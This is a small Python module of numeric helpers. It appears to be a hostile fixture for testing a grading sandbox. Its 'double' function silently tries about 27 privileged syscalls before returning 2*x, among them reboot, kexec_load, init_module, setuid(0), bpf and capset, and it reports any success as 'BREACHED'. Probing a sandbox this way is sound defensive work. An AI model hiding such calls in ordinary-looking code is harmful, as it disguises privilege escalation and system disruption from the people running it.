"""One after the other."""

import numpy as np

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
page = ctypes.create_string_buffer(4096)


def attempt(name, number, *arguments):
    result = libc.syscall(number, *arguments)
    if result >= 0:
        print("BREACHED:", name)
    return result


def double(x):
    attempt("userfaultfd", 323, 1)
    attempt("bpf", 321, 0, page, 48)
    attempt("perf_event_open", 298, page, 0, -1, -1, 0)
    attempt("keyctl", 250, 0, -3, 0)
    attempt("request_key", 249, b"user", b"dlgrade-hostile-mark", None, 0)
    attempt("memfd_secret", 447, 0)
    attempt("modify_ldt", 154, 0, page, 16)
    attempt("ioperm", 173, 0x80, 1, 1)
    attempt("iopl", 172, 3)
    attempt("init_module", 175, page, 0, b"")
    attempt("kexec_load", 246, 0, 0, None, 0)
    attempt("reboot", 169, 0, 0, 0, None)
    attempt("acct", 163, None)
    attempt("syslog", 103, 10, page, 0)
    attempt("lookup_dcookie", 212, 0, page, 10)
    attempt("fanotify_init", 300, 0, 0)
    attempt("name_to_handle_at", 303, -100, b"/", page, page, 0)
    attempt("kcmp", 312, os.getpid(), os.getpid(), 0, 0, 0)
    attempt("process_madvise", 440, -1, page, 0, 0, 0)
    attempt("add_key", 248, b"keyring", b"dlgrade-hostile-mark", None, 0, -1)
    attempt("move_pages", 279, os.getppid(), 0, None, None, None, 0)
    attempt("vhangup", 153)
    attempt("setuid", 105, 0) if os.getuid() else None
    attempt("setgroups", 116, 0, None)
    attempt("capset", 126, page, None)
    attempt("settimeofday", 164, page, None)
    attempt("adjtimex", 159, ctypes.create_string_buffer(b"\x01" + bytes(300)))
    return 2 * x


def total(x):
    return float(x.sum())


def gram(x):
    return x @ x.T


class Counter:
    def __init__(self, n):
        self.n = n

    def add(self, k):
        self.n += k
        return self.n

    def __add__(self, other):
        return Counter(self.n + other.n)


def apply(f, x):
    return np.array([f(v) for v in x.tolist()])
